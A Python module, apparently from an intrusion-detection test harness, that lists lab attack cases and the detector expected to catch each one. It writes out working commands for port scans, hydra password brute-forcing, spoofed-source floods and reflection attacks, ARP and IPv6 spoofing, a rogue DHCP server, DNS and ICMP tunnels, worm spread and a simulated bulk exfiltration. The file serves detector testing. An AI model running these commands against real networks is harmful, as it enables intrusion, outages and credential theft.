"""The attacks of attacks.py: which tool, on whom, and what is to be said about it."""
import collections
import os
import shutil

from attack_site import FAR, insider, remote, victim, victim6

ATTACKER, ATTACKER6 = "10.66.0.66", "fd66::42"

# name; when: "all" (from before the ordinary load to the end), "long" (all at once, beside the scans), "scan" (three at a
# time), "light" (floods of a few hundred packets a second, all at once), "flood" (one at a time, last), "capture" (only where
# captures are made);
# detector; victim ("": not looked at, or a network it lies in), attacker (None: not looked at); seconds it may take; what
# else may name the victim; host: where it runs; stretch: a capture's time is made so many times as long;
# command: its words. {v} is the victim, {words} a list of 40 wrong passwords, {good} one that ends with the right one.
Case = collections.namedtuple("Case", "name when detector victim attacker seconds allowed host stretch command")
NMAP = "nmap -n -Pn --disable-arp-ping --max-retries 0 --host-timeout 9s --min-rate 400 "
HYDRA = "hydra -I -q -t 4 -w 3 "
SLOW = "slowhttptest -r 60 -l 11 -p 9 -u http://{v}/big "
HPING = "hping3 -q -n "

_victims = iter(range(1, 200))


def row(name, when, detector, command, who=ATTACKER, seconds=12, allowed="", to=None, host="attacker", stretch=1):
    v = victim(next(_victims)) if to is None else to
    command = command.replace("{v}", v).split()
    return Case(name, when, detector, v, who, seconds, set(allowed.split()), host, stretch, command)


SCANS = [
    row("nmap_syn", "scan", "port_scan", NMAP + "-sS -p 1-300 {v}"),
    row("nmap_connect", "scan", "port_scan", NMAP + "-sT -p 1-300 {v}"),
    row("nmap_fin", "scan", "port_scan", NMAP + "-sF -p 1-300 {v}"),
    row("nmap_null", "scan", "port_scan", NMAP + "-sN -p 1-300 {v}"),
    row("nmap_xmas", "scan", "port_scan", NMAP + "-sX -p 1-300 {v}"),
    row("nmap_ack", "scan", "port_scan", NMAP + "-sA -p 1-300 {v}"),
    row("nmap_maimon", "scan", "port_scan", NMAP + "-sM -p 1-300 {v}"),
    row("nmap_udp", "scan", "port_scan", NMAP + "-sU -p 1-200 {v}"),
    row("nmap_sctp", "scan", "port_scan", NMAP + "-sY -p 1-200 {v}"),
    row("nmap_syn_ipv6", "scan", "port_scan", NMAP + "-6 -sS -p 1-300 {v}", who=ATTACKER6, to=victim6(40)),
    row("nmap_sweep", "scan", "host_scan", NMAP + "-sS -p 445 10.67.1.0/26", to="10.67.1.0/26"),
    row("nmap_ping_sweep", "scan", "host_scan", "nmap -n -sn -PE --max-retries 0 --min-rate 200 10.67.2.0/26",
        to="10.67.2.0/26"),
]


def hydra(service, login="-l admin ", passwords="-P {words} ", form="{0}://{{v}}", **more):
    return row("hydra_" + service.replace("-", "_"), "long", "brute_force",
               HYDRA + login + passwords + form.format(service), **{"seconds": 14, **more})


GUESSES = [hydra("ftp", passwords="-P {good} ")] + [hydra(s) for s in ("pop3", "imap", "smtp")] + [
    hydra(s, login="") for s in ("redis", "vnc", "snmp")] + [hydra(s) for s in ("ssh", "telnet")] + [
    row("hydra_http", "long", "brute_force", HYDRA + "-l admin -P {words} {v} http-get /private", seconds=14)]

OTHERS = [
    row("slow_headers", "long", "slow_dos", SLOW + "-c 60 -H -i 3", seconds=14),
    row("slow_body", "long", "slow_dos", SLOW + "-c 60 -B -i 3 -s 8192 -t POST", seconds=14),
    row("slow_read", "long", "slow_dos", SLOW + "-c 60 -X -w 10 -y 20 -n 5 -z 1", seconds=14),
    row("iodine", "long", "dns_tunnel", "iodine -f -r -P tunnel {v} t.example.org", seconds=12),
    row("arpspoof", "long", "arp_spoof", "arpspoof -i eth0 -t 10.66.0.20 10.66.0.1", who=None, seconds=7, to="10.66.0.1"),
    row("rogue_dhcp", "long", "rogue_dhcp", "dnsmasq -k -p 0 --conf-file=/dev/null --pid-file= --leasefile-ro -i eth0 "
        "--no-ping --dhcp-authoritative --dhcp-range=10.66.9.10,10.66.9.200,60", seconds=12, to="10.66.0.1"),
    row("rogue_ra", "long", "rogue_ra", "atk6-fake_router26 -A fd66:bad::/64 eth0", who=None, seconds=7, to="ff02::1"),
    row("neighbour_spoof", "long", "rogue_ra", "atk6-fake_advertise6 eth0 {v} fd66::14 02:66:00:00:00:42", who=None,
        seconds=6, to=victim6(41)),
    row("root_takeover", "long", "stp_anomaly", "senders.py bridges 16 0.3", who=None, to=""),
    row("lldp_flood", "long", "lldp_anomaly", "senders.py neighbours 300 0.005", who=None, to=""),
    row("icmp_redirect", "long", "icmp_redirect",
        HPING + "--icmp --icmptype 5 --icmpcode 1 --icmp-gw 10.66.0.66 -c 12 -i u100000 {v}"),
]

FLOODS = [
    row("dhcp_starvation", "light", "rogue_dhcp", "senders.py dhcp_clients 200 0.01", who=None, to="255.255.255.255"),
    row("macof", "flood", "mac_flood", "macof -i eth0 -n 4000", who=None, to="", seconds=6),
    row("hping_syn", "flood", "syn_flood", HPING + "-S -p 80 -i u300 -c 6000 --rand-source {v}", who=None),
    row("hping_ack", "flood", "syn_flood", HPING + "-A -p 80 --faster -c 20000 --rand-source {v}", who=None),
    row("hping_udp", "flood", "udp_flood", HPING + "--udp -p 53 --faster -c 20000 --rand-source {v}", who=None),
    row("hping_icmp", "flood", "icmp_flood", HPING + "--icmp -i u300 -c 5000 --rand-source {v}", who=None),
    row("hping_fragments", "flood", "fragment_flood", HPING + "--udp -x -d 64 --faster -c 12000 --rand-source {v}", who=None),
    row("http_crowd", "flood", "http_flood", "senders.py crowd {v} 1500 0.0005", who=None),
]

MORE_SCANS = [
    row("nmap_udp_ipv6", "scan", "port_scan", NMAP + "-6 -sU -p 1-200 {v}", who=ATTACKER6, to=victim6(42)),
    row("nmap_sweep_ipv6", "scan", "host_scan", NMAP + "-6 -sS -p 445 fd67::/122", who=ATTACKER6, to="fd67::/122"),
    row("scan_by_many", "scan", "port_scan", "senders.py scanning_crowd {v} 260 0.01", who=None),
]

MORE_GUESSES = [hydra(s) for s in ("mysql", "postgres", "ldap2", "mssql", "sip", "rdp")] + [
    row("hydra_form", "long", "brute_force", HYDRA + "-l admin -P {words} {v} http-post-form "
        "/login:user=^USER^&password=^PASS^:hello", seconds=14),
    row("hydra_ftp_ipv6", "long", "brute_force", HYDRA + "-6 -l admin -P {words} ftp://[{v}]", who=ATTACKER6, seconds=14,
        to=victim6(43)),
    row("spraying", "long", "brute_force", HYDRA + "-l admin -p wrong -M {servers} ftp", seconds=14, to="10.66.1.208/28"),
    row("guessing_by_many", "long", "brute_force", "senders.py guessing_crowd {v} 80 0.02", who=None),
    row("smb_guessing", "long", "brute_force", "smb.py login {v} {words}", who="10.66.0.20", seconds=14,
        host="client"),
    row("kerberos_guessing", "long", "brute_force", "loops.py kinit {v} {words}", seconds=14),
    row("openvpn_guessing", "long", "brute_force", "loops.py openvpn {v} {words}", seconds=16),
    row("ike_guessing", "long", "brute_force", "loops.py ike {v} {words}"),
]

SPREADING = [
    row("worm", "long", "worm_spread", "loops.py worm {v} 10.69.1.0/28", host="server"),
    row("lateral_movement", "long", "lateral_movement", "smb.py move " + " ".join(victim(184 + i) for i in range(4)),
        who="10.66.0.20", to="10.66.1.184/30", host="client"),
]

CHANNELS = [
    row("beacon", "all", "beacon", "loops.py beacon %s http://%s/news 14 5.2 0.1" % (insider(1), remote(1)), who=remote(1),
        seconds=75, to=insider(1), host="client"),
    row("dga", "long", "dga", "loops.py names %s %s 40" % (insider(2), remote(2)), who=insider(2), to=insider(2),
        host="client"),
    row("fast_flux", "long", "fast_flux", "loops.py flux %s %s" % (insider(3), remote(3)), who=None, to=insider(3),
        host="client"),
    row("ptunnel", "long", "icmp_tunnel", "loops.py ptunnel {v} 2200", who="10.66.0.1", to="10.66.0.10", seconds=14, host="gateway"),
    row("tunnel_redirect", "long", "tunnel_redirect", "senders.py lookups_in_gre %s %s 40 0.05" % (insider(4), remote(4)),
        who=remote(4), to=insider(4), host="client"),
    row("lookalike", "long", "lookalike_domain", "dig +tries=1 +time=1 -b %s @%s www.paypa1.com" % (insider(5), remote(5)),
        who=None, to=insider(5), host="client"),
    row("exfiltration", "flood", "exfiltration", "iperf3 -B %s -c %s -n 640M -b 1.4G" % (insider(6), remote(6)),
        who=remote(6), to=insider(6), host="client"),
    row("odd_port", "capture", "long_flow", "iperf3 -B %s -c %s -p 4444 -t 12 -b 400K -l 500" % (insider(7), remote(7)),
        who=remote(7), seconds=16, to=insider(7), host="client", stretch=60),
]

ONCE = [
    row("ssh_elsewhere", "long", "protocol_anomaly", HYDRA + "-s 443 -t 1 -l admin -p wrong ssh://{v}"),
    row("weak_cipher", "long", "weak_crypto", "openssl s_client -connect {v}:8443 -tls1_2 -cipher ECDHE-ECDSA-NULL-SHA:@SECLEVEL=0"),
    row("clear_password", "long", "cleartext_credentials", "curl -s --interface %s -m 5 ftp://admin:correct-horse@%s/" %
        (insider(8), remote(8)), who=None, to=insider(8), host="client"),
    row("tftp_config", "long", "device_tampering", "curl -s -m 5 --interface %s tftp://%s/router-confg" %
        (insider(9), remote(9)), who=remote(9), to=insider(9), host="client"),
]


def reflection(service, port, count, pause, when="light"):
    return row("reflected_" + service, when, "amplification", "senders.py forged_requests {v} %d %d %g" %
               (port, count, pause), who=None, host=FAR, seconds=8)


MORE_FLOODS = [
    reflection("dns", 53, 1800, 0.0006, when="flood"),
    reflection("ntp", 123, 600, 0.0015),
    reflection("ssdp", 1900, 600, 0.0015),
    reflection("memcached", 11211, 600, 0.0015),
    row("quic_initials", "light", "udp_flood", "senders.py quic_initials {v} 1500 0.0006", who=None),
    row("carpet", "flood", "carpet_bombing", "senders.py carpet 10.67.3 20000 0.00008", who=None, to="10.67.3.0/24"),
    row("syn_ipv6", "light", "syn_flood", "senders.py syns_ipv6 {v} 3000 0.0004", who=None, to=victim6(44)),
    row("ping_flood_ipv6", "light", "icmp_flood", "ping -6 -q -f -c 4000 {v}", who=None, to=victim6(45), seconds=6),
]

CASES = (SCANS + GUESSES + OTHERS + FLOODS + MORE_SCANS + MORE_GUESSES + SPREADING + CHANNELS + ONCE + MORE_FLOODS)

NOT_RECORDED = {"exfiltration"}  # 640 MB

TOOLS = {"atk6-fake_router26": "thc-ipv6", "atk6-fake_advertise6": "thc-ipv6", "arpspoof": "dsniff", "macof": "dsniff",
         "dnsmasq": "dnsmasq-base", "dig": "bind9-dnsutils", "dropbear": "dropbear-bin", "ping": "iputils-ping",
         "kinit": "krb5-user", "krb5kdc": "krb5-kdc", "kadmin.local": "krb5-admin-server"}
NEEDS = {"iodine": ["iodined"], "arpspoof": ["ping"], "neighbour_spoof": ["ping"], "hydra_ssh": ["dropbear"],
         "ssh_elsewhere": ["dropbear"], "kerberos_guessing": ["kinit", "krb5kdc", "kadmin.local"], "worm": ["nmap"],
         "openvpn_guessing": ["openvpn", "openssl"], "ike_guessing": ["ike-scan"], "dga": ["dig"], "fast_flux": ["dig"],
         "ptunnel": ["ptunnel-ng", "curl"], "beacon": ["curl"]}


def missing(case):
    """Why a case cannot run here, or None."""
    tools = [t for t in [case.command[0]] + NEEDS.get(case.name, []) if not t.endswith(".py")]
    for tool in tools:
        if not shutil.which(tool):
            return "%s is not installed (Debian package %s)" % (tool, TOOLS.get(tool, tool))
    if case.name in ("iodine", "openvpn_guessing", "ptunnel") and not os.path.exists("/dev/net/tun"):
        return "no /dev/net/tun"
    if case.command[0] == "smb.py" and not os.path.exists("/usr/lib/python3/dist-packages/impacket"):
        return "impacket is not installed (Debian package python3-impacket)"
    return None
